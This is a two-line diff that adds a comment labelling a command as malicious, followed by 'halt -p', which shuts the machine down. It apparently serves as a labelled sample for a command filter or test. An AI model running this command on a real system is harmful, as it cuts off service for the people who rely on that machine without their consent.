@@ -1,0 +1,2 @@
+# Malicious: halts and powers off the machine.
+halt -p
